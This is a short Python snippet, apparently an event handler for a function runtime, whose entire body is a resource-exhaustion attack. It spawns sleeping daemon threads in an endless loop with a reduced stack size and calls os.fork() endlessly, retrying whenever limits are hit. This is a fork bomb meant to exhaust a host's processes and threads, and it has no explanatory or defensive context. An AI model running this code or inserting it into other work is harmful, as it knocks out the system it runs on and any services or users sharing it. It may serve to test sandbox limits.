def handler(event):
    def threads():
        while True:
            try:
                threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
            except RuntimeError:
                time.sleep(0.01)

    threading.stack_size(65536)
    threading.Thread(target=threads, daemon=True).start()
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
